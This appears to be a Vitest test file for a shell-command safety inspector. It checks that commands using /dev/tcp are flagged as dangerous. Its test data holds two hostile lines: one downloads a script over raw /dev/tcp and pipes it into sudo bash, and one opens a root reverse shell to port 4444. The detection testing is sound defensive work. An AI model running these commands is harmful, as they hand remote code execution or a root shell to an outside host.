/**
 * Attack: the shell downloads through `/dev/tcp` with no download tool in sight.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('dev tcp', () => {
  it.each([
    [
      'exec 3<>/dev/tcp/203.0.113.5/80\necho -e "GET /p.sh HTTP/1.0\\n" >&3\ncat <&3 | sudo bash',
      'pipe-to-shell',
      'high',
    ],
    ['sudo bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'raw-network', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
